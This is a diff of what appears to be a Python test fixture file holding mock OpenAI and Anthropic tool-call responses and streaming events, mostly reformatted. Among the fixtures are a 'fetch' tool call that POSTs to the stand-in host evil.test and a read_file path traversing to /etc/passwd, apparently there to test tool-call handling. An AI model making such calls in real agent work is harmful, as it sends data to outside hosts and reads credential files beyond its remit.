@@ -25,22 +25,36 @@ CHAT_COMPLETION = {
     "object": "chat.completion",
     "created": 1741570283,
     "model": "gpt-4o-2024-08-06",
-    "choices": [{
-        "index": 0,
-        "message": {
-            "role": "assistant",
-            "content": "Let me look at the customer first.",
-            "refusal": None,
-            "tool_calls": [
-                {"id": "call_abc", "type": "function",
-                 "function": {"name": "get_customer", "arguments": "{\"customer_id\": \"4411\"}"}},
-                {"id": "call_def", "type": "function",
-                 "function": {"name": "fetch", "arguments": "{\"url\": \"https://evil.test/x\", \"method\": \"post\"}"}},
-            ],
-        },
-        "logprobs": None,
-        "finish_reason": "tool_calls",
-    }],
+    "choices": [
+        {
+            "index": 0,
+            "message": {
+                "role": "assistant",
+                "content": "Let me look at the customer first.",
+                "refusal": None,
+                "tool_calls": [
+                    {
+                        "id": "call_abc",
+                        "type": "function",
+                        "function": {
+                            "name": "get_customer",
+                            "arguments": '{"customer_id": "4411"}',
+                        },
+                    },
+                    {
+                        "id": "call_def",
+                        "type": "function",
+                        "function": {
+                            "name": "fetch",
+                            "arguments": '{"url": "https://evil.test/x", "method": "post"}',
+                        },
+                    },
+                ],
+            },
+            "logprobs": None,
+            "finish_reason": "tool_calls",
+        }
+    ],
     "usage": {"prompt_tokens": 82, "completion_tokens": 17, "total_tokens": 99},
 }
 
@@ -49,23 +63,56 @@ _ARGS_B = '{"path": "/srv/billing/../etc/passwd"}'
 
 
 def _chunk(delta: dict[str, Any], finish: str | None = None) -> dict[str, Any]:
-    return {"id": "chatcmpl-123", "object": "chat.completion.chunk", "created": 1694268190,
-            "model": "gpt-4o-mini", "system_fingerprint": "fp_44709d6fcb",
-            "choices": [{"index": 0, "delta": delta, "logprobs": None, "finish_reason": finish}]}
+    return {
+        "id": "chatcmpl-123",
+        "object": "chat.completion.chunk",
+        "created": 1694268190,
+        "model": "gpt-4o-mini",
+        "system_fingerprint": "fp_44709d6fcb",
+        "choices": [{"index": 0, "delta": delta, "logprobs": None, "finish_reason": finish}],
+    }
 
 
 def chat_stream_chunks() -> list[dict[str, Any]]:
     chunks = [_chunk({"role": "assistant", "content": None, "refusal": None})]
     chunks.append(_chunk({"content": "Checking "}))
     chunks.append(_chunk({"content": "now."}))
-    chunks.append(_chunk({"tool_calls": [{"index": 0, "id": "call_1", "type": "function",
-                                          "function": {"name": "get_customer", "arguments": ""}}]}))
+    chunks.append(
+        _chunk(
+            {
+                "tool_calls": [
+                    {
+                        "index": 0,
+                        "id": "call_1",
+                        "type": "function",
+                        "function": {"name": "get_customer", "arguments": ""},
+                    }
+                ]
+            }
+        )
+    )
     for i in range(0, len(_ARGS_A), 5):
-        chunks.append(_chunk({"tool_calls": [{"index": 0, "function": {"arguments": _ARGS_A[i:i + 5]}}]}))
-    chunks.append(_chunk({"tool_calls": [{"index": 1, "id": "call_2", "type": "function",
-                                          "function": {"name": "read_file", "arguments": ""}}]}))
+        chunks.append(
+            _chunk({"tool_calls": [{"index": 0, "function": {"arguments": _ARGS_A[i : i + 5]}}]})
+        )
+    chunks.append(
+        _chunk(
+            {
+                "tool_calls": [
+                    {
+                        "index": 1,
+                        "id": "call_2",
+                        "type": "function",
+                        "function": {"name": "read_file", "arguments": ""},
+                    }
+                ]
+            }
+        )
+    )
     for i in range(0, len(_ARGS_B), 3):
-        chunks.append(_chunk({"tool_calls": [{"index": 1, "function": {"arguments": _ARGS_B[i:i + 3]}}]}))
+        chunks.append(
+            _chunk({"tool_calls": [{"index": 1, "function": {"arguments": _ARGS_B[i : i + 3]}}]})
+        )
     chunks.append(_chunk({}, "tool_calls"))
     return chunks
 
@@ -74,26 +121,59 @@ def chat_stream() -> bytes:
     return sse([(None, c) for c in chat_stream_chunks()] + [(None, "[DONE]")])
 
 
-CHAT_STREAM_EXPECT = [("get_customer", json.loads(_ARGS_A), "call_1"),
-                      ("read_file", json.loads(_ARGS_B), "call_2")]
+CHAT_STREAM_EXPECT = [
+    ("get_customer", json.loads(_ARGS_A), "call_1"),
+    ("read_file", json.loads(_ARGS_B), "call_2"),
+]
 
 # --- OpenAI Responses API ---------------------------------------------------------
 
-_FC = {"type": "function_call", "id": "fc_12345", "call_id": "call_r1", "name": "get_customer",
-       "arguments": "{\"customer_id\":\"4412\"}", "status": "completed"}
-_MSG = {"type": "message", "id": "msg_1", "status": "completed", "role": "assistant",
-        "content": [{"type": "output_text", "text": "I will check.", "annotations": []}]}
+_FC = {
+    "type": "function_call",
+    "id": "fc_12345",
+    "call_id": "call_r1",
+    "name": "get_customer",
+    "arguments": '{"customer_id":"4412"}',
+    "status": "completed",
+}
+_MSG = {
+    "type": "message",
+    "id": "msg_1",
+    "status": "completed",
+    "role": "assistant",
+    "content": [{"type": "output_text", "text": "I will check.", "annotations": []}],
+}
 
 RESPONSE = {
-    "id": "resp_67ccd2bed1ec8190b14f964abc054267", "object": "response", "created_at": 1741476542,
-    "status": "completed", "error": None, "incomplete_details": None, "instructions": None,
-    "max_output_tokens": None, "model": "gpt-4.1-2025-04-14", "output": [_MSG, _FC],
-    "parallel_tool_calls": True, "previous_response_id": None, "reasoning": {"effort": None, "summary": None},
-    "store": True, "temperature": 1.0, "text": {"format": {"type": "text"}}, "tool_choice": "auto",
-    "tools": [], "top_p": 1.0, "truncation": "disabled",
-    "usage": {"input_tokens": 36, "input_tokens_details": {"cached_tokens": 0, "cache_write_tokens": 0}, "output_tokens": 87,
-              "output_tokens_details": {"reasoning_tokens": 0}, "total_tokens": 123},
-    "user": None, "metadata": {},
+    "id": "resp_67ccd2bed1ec8190b14f964abc054267",
+    "object": "response",
+    "created_at": 1741476542,
+    "status": "completed",
+    "error": None,
+    "incomplete_details": None,
+    "instructions": None,
+    "max_output_tokens": None,
+    "model": "gpt-4.1-2025-04-14",
+    "output": [_MSG, _FC],
+    "parallel_tool_calls": True,
+    "previous_response_id": None,
+    "reasoning": {"effort": None, "summary": None},
+    "store": True,
+    "temperature": 1.0,
+    "text": {"format": {"type": "text"}},
+    "tool_choice": "auto",
+    "tools": [],
+    "top_p": 1.0,
+    "truncation": "disabled",
+    "usage": {
+        "input_tokens": 36,
+        "input_tokens_details": {"cached_tokens": 0, "cache_write_tokens": 0},
+        "output_tokens": 87,
+        "output_tokens_details": {"reasoning_tokens": 0},
+        "total_tokens": 123,
+    },
+    "user": None,
+    "metadata": {},
 }
 
 
@@ -103,20 +183,58 @@ def responses_events(with_completed: bool = True) -> list[dict[str, Any]]:
     events: list[dict[str, Any]] = [
         {"type": "response.created", "sequence_number": 0, "response": in_progress},
         {"type": "response.in_progress", "sequence_number": 1, "response": in_progress},
-        {"type": "response.output_item.added", "sequence_number": 2, "output_index": 0,
-         "item": dict(_MSG, status="in_progress", content=[])},
-        {"type": "response.output_text.delta", "sequence_number": 3, "item_id": "msg_1", "output_index": 0,
-         "content_index": 0, "delta": "I will ", "logprobs": []},
-        {"type": "response.output_text.delta", "sequence_number": 4, "item_id": "msg_1", "output_index": 0,
-         "content_index": 0, "delta": "check.", "logprobs": []},
-        {"type": "response.output_item.added", "sequence_number": 5, "output_index": 1,
-         "item": dict(_FC, arguments="", status="in_progress")},
-        {"type": "response.function_call_arguments.delta", "sequence_number": 6, "item_id": "fc_12345",
-         "output_index": 1, "delta": args[:9]},
-        {"type": "response.function_call_arguments.delta", "sequence_number": 7, "item_id": "fc_12345",
-         "output_index": 1, "delta": args[9:]},
-        {"type": "response.function_call_arguments.done", "sequence_number": 8, "item_id": "fc_12345",
-         "output_index": 1, "name": "get_customer", "arguments": args},
+        {
+            "type": "response.output_item.added",
+            "sequence_number": 2,
+            "output_index": 0,
+            "item": dict(_MSG, status="in_progress", content=[]),
+        },
+        {
+            "type": "response.output_text.delta",
+            "sequence_number": 3,
+            "item_id": "msg_1",
+            "output_index": 0,
+            "content_index": 0,
+            "delta": "I will ",
+            "logprobs": [],
+        },
+        {
+            "type": "response.output_text.delta",
+            "sequence_number": 4,
+            "item_id": "msg_1",
+            "output_index": 0,
+            "content_index": 0,
+            "delta": "check.",
+            "logprobs": [],
+        },
+        {
+            "type": "response.output_item.added",
+            "sequence_number": 5,
+            "output_index": 1,
+            "item": dict(_FC, arguments="", status="in_progress"),
+        },
+        {
+            "type": "response.function_call_arguments.delta",
+            "sequence_number": 6,
+            "item_id": "fc_12345",
+            "output_index": 1,
+            "delta": args[:9],
+        },
+        {
+            "type": "response.function_call_arguments.delta",
+            "sequence_number": 7,
+            "item_id": "fc_12345",
+            "output_index": 1,
+            "delta": args[9:],
+        },
+        {
+            "type": "response.function_call_arguments.done",
+            "sequence_number": 8,
+            "item_id": "fc_12345",
+            "output_index": 1,
+            "name": "get_customer",
+            "arguments": args,
+        },
         {"type": "response.output_item.done", "sequence_number": 9, "output_index": 1, "item": _FC},
     ]
     if with_completed:
@@ -131,40 +249,80 @@ def responses_stream(with_completed: bool = True) -> bytes:
 # --- Anthropic Messages ------------------------------------------------------------
 
 ANTHROPIC_MESSAGE = {
-    "id": "msg_01Aq9w938a90dw8q", "type": "message", "role": "assistant",
+    "id": "msg_01Aq9w938a90dw8q",
+    "type": "message",
+    "role": "assistant",
     "model": "claude-sonnet-4-20250514",
     "content": [
         {"type": "text", "text": "I'll look that up."},
-        {"type": "tool_use", "id": "toolu_01A09q90qw90lq917835lq9", "name": "get_customer",
-         "input": {"customer_id": "4411"}},
+        {
+            "type": "tool_use",
+            "id": "toolu_01A09q90qw90lq917835lq9",
+            "name": "get_customer",
+            "input": {"customer_id": "4411"},
+        },
     ],
-    "stop_reason": "tool_use", "stop_sequence": None,
+    "stop_reason": "tool_use",
+    "stop_sequence": None,
     "usage": {"input_tokens": 472, "output_tokens": 91},
 }
 
-_PARTS = ['{"path": "/srv', '/billing/', 'inv', 'oices.csv"', ', "lines": [1, 2]}']
+_PARTS = ['{"path": "/srv', "/billing/", "inv", 'oices.csv"', ', "lines": [1, 2]}']
 
 
 def anthropic_events() -> list[dict[str, Any]]:
-    start = dict(ANTHROPIC_MESSAGE, content=[], stop_reason=None, usage={"input_tokens": 472, "output_tokens": 2})
+    start = dict(
+        ANTHROPIC_MESSAGE,
+        content=[],
+        stop_reason=None,
+        usage={"input_tokens": 472, "output_tokens": 2},
+    )
     events: list[dict[str, Any]] = [
         {"type": "message_start", "message": start},
         {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}},
         {"type": "ping"},
-        {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": "Okay, "}},
-        {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": "reading."}},
+        {
+            "type": "content_block_delta",
+            "index": 0,
+            "delta": {"type": "text_delta", "text": "Okay, "},
+        },
+        {
+            "type": "content_block_delta",
+            "index": 0,
+            "delta": {"type": "text_delta", "text": "reading."},
+        },
         {"type": "content_block_stop", "index": 0},
-        {"type": "content_block_start", "index": 1,
-         "content_block": {"type": "tool_use", "id": "toolu_01T1x1fJ34qAmk2tNTrN7Up6", "name": "read_file",
-                           "input": {}}},
-        {"type": "content_block_delta", "index": 1, "delta": {"type": "input_json_delta", "partial_json": ""}},
+        {
+            "type": "content_block_start",
+            "index": 1,
+            "content_block": {
+                "type": "tool_use",
+                "id": "toolu_01T1x1fJ34qAmk2tNTrN7Up6",
+                "name": "read_file",
+                "input": {},
+            },
+        },
+        {
+            "type": "content_block_delta",
+            "index": 1,
+            "delta": {"type": "input_json_delta", "partial_json": ""},
+        },
     ]
-    events += [{"type": "content_block_delta", "index": 1,
-                "delta": {"type": "input_json_delta", "partial_json": p}} for p in _PARTS]
+    events += [
+        {
+            "type": "content_block_delta",
+            "index": 1,
+            "delta": {"type": "input_json_delta", "partial_json": p},
+        }
+        for p in _PARTS
+    ]
     events += [
         {"type": "content_block_stop", "index": 1},
-        {"type": "message_delta", "delta": {"stop_reason": "tool_use", "stop_sequence": None},
-         "usage": {"output_tokens": 89}},
+        {
+            "type": "message_delta",
+            "delta": {"stop_reason": "tool_use", "stop_sequence": None},
+            "usage": {"output_tokens": 89},
+        },
         {"type": "message_stop"},
     ]
     return events
@@ -174,5 +332,8 @@ def anthropic_stream() -> bytes:
     return sse([(e["type"], e) for e in anthropic_events()])
 
 
-ANTHROPIC_STREAM_EXPECT = ("read_file", {"path": "/srv/billing/invoices.csv", "lines": [1, 2]},
-                           "toolu_01T1x1fJ34qAmk2tNTrN7Up6")
+ANTHROPIC_STREAM_EXPECT = (
+    "read_file",
+    {"path": "/srv/billing/invoices.csv", "lines": [1, 2]},
+    "toolu_01T1x1fJ34qAmk2tNTrN7Up6",
+)
